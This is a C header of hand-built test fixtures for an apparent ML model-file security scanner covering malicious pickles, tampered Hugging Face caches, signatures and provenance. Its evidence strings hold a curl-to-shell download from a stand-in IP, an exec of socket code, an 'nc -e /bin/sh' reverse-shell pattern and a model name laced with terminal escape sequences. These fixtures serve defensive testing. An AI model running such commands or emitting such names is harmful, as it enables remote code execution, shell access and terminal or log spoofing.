/* sample_result.h: results for tests of policy and reports, built by hand. */
#ifndef SAMPLE_RESULT_H
#define SAMPLE_RESULT_H

#include "core/formats.h"
#include "core/result.h"

/* Rules of the samples' own, so that the table may change without them. */
static const struct rule sample_call = { "pickle/dangerous-call", SEVERITY_CRITICAL, 502,
                                         "Loading calls a function that can run code" };
static const struct rule sample_import = { "pickle/unknown-import", SEVERITY_MEDIUM, 502,
                                           "Loading imports a name that no list knows" };
static const struct rule sample_polyglot = {
    "format/polyglot", SEVERITY_HIGH, 434, "One file that two unrelated loaders accept"
};
static const struct rule sample_digest = {
    "integrity/digest-mismatch", SEVERITY_HIGH, 345,
    "The bytes are not the ones that were expected"
};
static const struct rule sample_note = { "trust/unpinned", SEVERITY_LOW, 494,
                                         "The revision is not pinned" };

static inline struct span bytes_of(const char *s)
{
    return span_of_text(s);
}

static inline struct file *sample_file(struct model *m, struct span path, uint64_t size,
                                       uint64_t formats_set, enum artifact_status status,
                                       const char *reason)
{
    struct arena *arena = arena_new(16 << 20);
    struct file *f = arena_alloc(arena, sizeof *f);
    f->arena = arena;
    f->artifact = artifact_new(arena, path, size);
    f->artifact->formats = formats_set;
    if (status != STATUS_COMPLETE)
        artifact_lower(f->artifact, status, "%s", reason);
    if (status != STATUS_FAILED)
        f->sha256 =
            bytes_of("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08");
    model_add_file(m, f);
    return f;
}

static inline void sample_finding(struct artifact *a, const struct rule *rule,
                                  uint64_t offset, const char *message,
                                  const char *evidence)
{
    finding_add(&a->findings, a->arena, rule, offset, bytes_of(message),
                bytes_of(evidence));
}

static inline void sample_expect(struct file *f, const char *source, const char *value,
                                 enum expectation_state state)
{
    struct expectation *e = arena_alloc(f->arena, sizeof *e);
    e->source = bytes_of(source);
    e->algorithm = "sha256";
    e->value = bytes_of(value);
    e->state = state;
    e->next = f->expected;
    f->expected = e;
}

static inline struct model *sample_model(struct result *r, const char *target)
{
    return result_add_model(r, bytes_of(target), bytes_of(target));
}

/* A PyTorch zip whose data.pkl runs a shell. */
static inline struct model *sample_malicious_of(struct result *r, int repeats)
{
    struct model *m = sample_model(r, "models/resnet50-final.pt");
    struct file *f = sample_file(m, bytes_of("resnet50-final.pt"), 102400512,
                                 FORMAT_BIT(FORMAT_ZIP) | FORMAT_BIT(FORMAT_TORCH_ZIP),
                                 STATUS_COMPLETE, NULL);
    f->artifact->executes = true;
    f->artifact->members_total = 159;
    struct artifact *pkl =
        artifact_child(f->artifact, bytes_of("archive/data.pkl"), 64, 4096);
    pkl->formats = FORMAT_BIT(FORMAT_PICKLE);
    pkl->executes = true;
    sample_finding(pkl, &sample_import, 17, "no list knows my_pkg.Thing", "my_pkg.Thing");
    sample_finding(
        pkl, &sample_call, 1042, "called by REDUCE",
        "os.system('curl -s http://203.0.113.9/stage2.sh | sh -c \"$(cat)\" # torch')");
    for (int i = 0; i < repeats; i++)
        sample_finding(pkl, &sample_import, (uint64_t)(2000 + i), "not in any list",
                       i % 2 ? "my_pkg.layers.Block" : "my_pkg.layers.Norm");
    struct artifact *inner = artifact_child(pkl, bytes_of("bytes@512"), 512, 128);
    inner->formats = FORMAT_BIT(FORMAT_PICKLE);
    inner->executes = true;
    sample_finding(inner, &sample_call, 3, "called by REDUCE",
                   "builtins.exec('import socket')");
    struct fact *facts = fact_list(pkl->arena, artifact_facts(pkl), "pickle");
    struct fact *stream = fact_object(pkl->arena, facts, "");
    fact_uint(pkl->arena, stream, "protocol", 2);
    fact_bool(pkl->arena, stream, "stopped", true);
    struct fact *calls = fact_list(pkl->arena, stream, "calls");
    fact_text(pkl->arena, calls, "", bytes_of("os.system('curl …')"));
    return m;
}

static inline struct model *sample_malicious(struct result *r)
{
    return sample_malicious_of(r, 300);
}

/* A Hugging Face cache with one right and one tampered blob. */
static inline struct model *sample_tampered(struct result *r)
{
    struct model *m =
        result_add_model(r, bytes_of("hub"), bytes_of("acme/bert-tiny@4f1c0d2"));
    m->origin = (struct origin){
        .registry = "huggingface",
        .title = "Hugging Face Hub",
        .advice = "Check that the author is verified, the model card is complete and "
                  "the download count is plausible; pin the revision.",
        .trust = TRUST_MEDIUM,
        .basis = BASIS_DECLARED,
        .name = bytes_of("acme/bert-tiny"),
        .revision = bytes_of("4f1c0d2e8a90b7c6d5e4f3a2b1c0d9e8f7a6b5c4"),
        .evidence = bytes_of("models--acme--bert-tiny/snapshots/4f1c0d2e8a90"),
    };
    m->trust = TRUST_UNKNOWN;
    sample_file(m, bytes_of("README.md"), 912, 0, STATUS_SKIPPED, "not a model");
    struct file *good =
        sample_file(m, bytes_of("model.safetensors"), 438012432,
                    FORMAT_BIT(FORMAT_SAFETENSORS), STATUS_COMPLETE, NULL);
    sample_expect(good, "huggingface cache blob name",
                  "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
                  EXPECT_CONSISTENT);
    struct file *bad =
        sample_file(m, bytes_of("tokenizer.json"), 71230, 0, STATUS_COMPLETE, NULL);
    sample_expect(bad, "huggingface cache blob name",
                  "60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752",
                  EXPECT_INCONSISTENT);
    finding_add(
        &m->findings, m->arena, &sample_digest, 0,
        bytes_of("tokenizer.json: sha256 is 9f86d081…, the cache names 60303ae2…"),
        (struct span){ 0 });
    return m;
}

/* Cut off, encrypted, unreadable. */
static inline struct model *sample_incomplete(struct result *r)
{
    struct model *m = sample_model(r, "models/broken");
    sample_file(m, bytes_of("a.pt"), 4000, FORMAT_BIT(FORMAT_TORCH_ZIP),
                STATUS_INCOMPLETE,
                "the archive ends at byte 4000, its directory is missing");
    struct file *f = sample_file(m, bytes_of("b.zip"), 90000, FORMAT_BIT(FORMAT_ZIP),
                                 STATUS_COMPLETE, NULL);
    artifact_lower(artifact_child(f->artifact, bytes_of("secret.pkl"), 10, 500),
                   STATUS_INCOMPLETE, "the member is encrypted");
    sample_file(m, bytes_of("c.bin"), 0, 0, STATUS_FAILED, "Permission denied");
    return m;
}

static inline struct model *sample_clean(struct result *r, const char *target,
                                         enum trust trust)
{
    struct model *m = sample_model(r, target);
    m->trust = trust;
    if (trust == TRUST_MEDIUM)
        m->origin = (struct origin){ .registry = "huggingface",
                                     .title = "Hugging Face Hub",
                                     .advice = "Check the author.",
                                     .trust = TRUST_MEDIUM,
                                     .basis = BASIS_STATED,
                                     .name = bytes_of("acme/gpt-small"),
                                     .evidence = bytes_of("--origin hf:acme/gpt-small") };
    sample_file(m, bytes_of("model.safetensors"), 1234567, FORMAT_BIT(FORMAT_SAFETENSORS),
                STATUS_COMPLETE, NULL);
    return m;
}

/* Names that would act on a terminal, in a log or in a shell. */
static inline struct model *sample_hostile(struct result *r)
{
    static const char name[] = "\x1b[2J\x1b]0;owned\a\xff\xfe::error::\n\0"
                               "PASS \xe2\x80\xae"
                               "tp.ledom\xc2\x9b"
                               "1m \\x41 =cmd()";
    struct span raw = span_of(name, sizeof name - 1);
    struct model *m = result_add_model(r, raw, raw);
    struct file *f =
        sample_file(m, raw, 10, FORMAT_BIT(FORMAT_PICKLE), STATUS_COMPLETE, NULL);
    f->artifact->executes = true;
    struct artifact *inner = artifact_child(f->artifact, bytes_of("in!ner\n"), 0, 5);
    finding_add(&inner->findings, inner->arena, &sample_polyglot, 0, raw, raw);
    return m;
}

static inline struct model *sample_pictures(struct result *r)
{
    struct model *m = sample_model(r, "pictures");
    sample_file(m, bytes_of("cat.png"), 1000, 0, STATUS_SKIPPED,
                "nothing suggests a model");
    return m;
}

static inline struct metadata *sample_metadata(struct arena *arena, const char *key,
                                               const char *value, struct metadata *next)
{
    struct metadata *m = arena_alloc(arena, sizeof *m);
    *m = (struct metadata){ key, bytes_of(value), next };
    return m;
}

/* All that a registry, signatures, a policy and byte rules can add to a model. */
static inline struct model *sample_signed(struct result *r)
{
    static const struct rule byte_rule = { "yara/reverse-shell", SEVERITY_HIGH, 506,
                                           "Bytes of a reverse shell" };
    static struct origin other = { .registry = "git",
                                   .title = "Git repository",
                                   .trust = TRUST_LOW,
                                   .basis = BASIS_DECLARED };
    static struct signature unknown = { .kind = "minisign",
                                        .state = SIGNATURE_UNTRUSTED };
    static struct signature signature = { .kind = "sigstore",
                                          .state = SIGNATURE_VERIFIED,
                                          .next = &unknown };
    static struct provenance_check license = {
        "license", CHECK_UNKNOWN, SEVERITY_LOW, { 0 }, NULL
    };
    static struct provenance_check downloads = {
        "downloads", CHECK_FAIL, SEVERITY_MEDIUM, { 0 }, &license
    };
    struct model *m = sample_clean(r, "models/signed", TRUST_MEDIUM);
    struct file *f = m->files;
    other.name = bytes_of("https://git.example/acme/gpt-small");
    other.evidence = bytes_of(".git/config");
    other.agrees = true;
    m->origin.pinned = true;
    m->origin.next = &other;
    m->origin.revision = bytes_of("4f1c0d2e8a90b7c6d5e4f3a2b1c0d9e8f7a6b5c4");
    m->metadata = sample_metadata(
        m->arena, "author", "acme",
        sample_metadata(m->arena, "license", "apache-2.0",
                        sample_metadata(m->arena, "base_model", "acme/gpt", NULL)));
    downloads.evidence = bytes_of("downloads 12, at least 1000 wanted");
    license.evidence = bytes_of("the registry does not say");
    m->checks = &downloads;
    signature.path = bytes_of("model.safetensors.sigstore.json");
    signature.identity =
        bytes_of("https://github.com/acme/train/.github/workflows/release.yml");
    signature.issuer = bytes_of("https://token.actions.githubusercontent.com");
    signature.root =
        bytes_of("60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752");
    signature.time = bytes_of("2026-01-01T00:00:00Z");
    signature.covers = bytes_of("all 2 files");
    unknown.path = bytes_of("model.safetensors.minisig");
    unknown.identity = bytes_of("RWQf6LRCGA9i53mlYecO4IzT51TGPpvW");
    unknown.check = bytes_of("identity");
    unknown.reason = bytes_of("no key of the operator's has this fingerprint");
    m->signatures = &signature;
    f->signature = &signature;
    f->metadata = sample_metadata(m->arena, "lfs.oid", "9f86d081", NULL);
    sample_expect(f, "huggingface",
                  "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
                  EXPECT_VERIFIED);
    f->expected->by = BY_REGISTRY;
    struct file *zip = sample_file(m, bytes_of("extra.zip"), 4096, FORMAT_BIT(FORMAT_ZIP),
                                   STATUS_COMPLETE, NULL);
    zip->artifact->members_total = 9;
    for (int i = 0; i < 2; i++) { /* one name, two members */
        struct artifact *a = artifact_child(zip->artifact, bytes_of("data.pkl"), 10, 20);
        sample_finding(a, &byte_rule, 4, "matched $shell", "nc -e /bin/sh");
        a->findings.first->suppressed =
            i ? bytes_of("reviewed by J. Doe (SEC-1187), until 2026-06-30")
              : (struct span){ 0 };
    }
    zip->artifact->first->findings.count += 7;
    zip->artifact->first->findings.dropped = 7;
    return m;
}

/* A model of a hub as fetched, with all that its card declares. */
static inline struct model *sample_published(struct result *r)
{
    static struct signature signature = { .kind = "sigstore",
                                          .state = SIGNATURE_VERIFIED };
    static const char *const metadata[][2] = {
        {"author",       "acme"                    },
        { "created",     "2025-06-01T12:00:00.000Z"},
        { "license",     "apache-2.0"              },
        { "license",     "acme-research-1"         },
        { "base_models", "acme/gpt"                },
        { "base_models", "finetune:acme/gpt"       },
        { "datasets",    "acme/corpus"             },
        { "type",        "text-generation"         },
        { "family",      "transformer"             },
    };
    struct model *m =
        result_add_model(r, bytes_of("hf:acme/Gpt-small"), bytes_of("acme/Gpt-small"));
    m->trust = TRUST_MEDIUM;
    m->origin =
        (struct origin){ .registry = "huggingface",
                         .title = "Hugging Face Hub",
                         .trust = TRUST_MEDIUM,
                         .basis = BASIS_FETCHED,
                         .name = bytes_of("acme/Gpt-small"),
                         .revision = bytes_of("4f1c0d2e8a90b7c6d5e4f3a2b1c0d9e8f7a6b5c4"),
                         .evidence = bytes_of("the registry's answer"),
                         .pinned = true };
    for (size_t i = sizeof metadata / sizeof metadata[0]; i-- > 0;)
        m->metadata =
            sample_metadata(m->arena, metadata[i][0], metadata[i][1], m->metadata);
    signature.path = bytes_of("model.safetensors.sigstore.json");
    signature.identity = bytes_of("release@acme.example");
    signature.issuer = bytes_of("https://accounts.example");
    signature.covers = bytes_of("1 file");
    m->signatures = &signature;
    struct file *weights =
        sample_file(m, bytes_of("model.safetensors"), 1234567,
                    FORMAT_BIT(FORMAT_SAFETENSORS), STATUS_COMPLETE, NULL);
    weights->signature = &signature;
    struct file *bundle = sample_file(m, signature.path, 4321, 0, STATUS_SKIPPED,
                                      "nothing suggests a model");
    for (struct file *f = weights; f; f = f == weights ? bundle : NULL) {
        sample_expect(f, "huggingface",
                      "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
                      EXPECT_VERIFIED);
        f->expected->by = BY_REGISTRY;
    }
    return m;
}

static inline struct result *sample_published_alone(void)
{
    struct result *r = result_new();
    sample_published(r);
    r->run.sandbox = "seccomp";
    r->run.started = 1767225600;
    r->rules_digest = "0cc175b9c0f1b6a831c399e269772661";
    result_count(r);
    return r;
}

/* All of the above but the last. */
static inline struct result *sample_rich_of(int repeats)
{
    struct result *r = result_new();
    sample_hostile(r);
    sample_tampered(r);
    sample_incomplete(r);
    sample_clean(r, "models/gpt-small", TRUST_MEDIUM);
    sample_clean(r, "models/unknown.safetensors", TRUST_UNKNOWN);
    struct model *noted = sample_clean(r, "models/noted", TRUST_MEDIUM);
    finding_add(&noted->findings, noted->arena, &sample_note, 0,
                bytes_of("the reference names no commit"), (struct span){ 0 });
    sample_malicious_of(r, repeats);
    sample_pictures(r);
    model_share_file(sample_signed(r), r->models->next->files->next->next);
    struct error e;
    error_set(&e, ERROR_IO, "hf:acme/x: cannot be fetched: Connection refused");
    result_add_error(r, bytes_of("hf:acme/x"), &e, true);
    r->run.sandbox = "seccomp+landlock6";
    r->run.started = 1767225600;
    r->run.seconds = 1.25;
    r->run.jobs = 2;
    r->rules_digest = "0cc175b9c0f1b6a831c399e269772661";
    result_count(r);
    return r;
}

static inline struct result *sample_rich(void)
{
    return sample_rich_of(300);
}

#endif
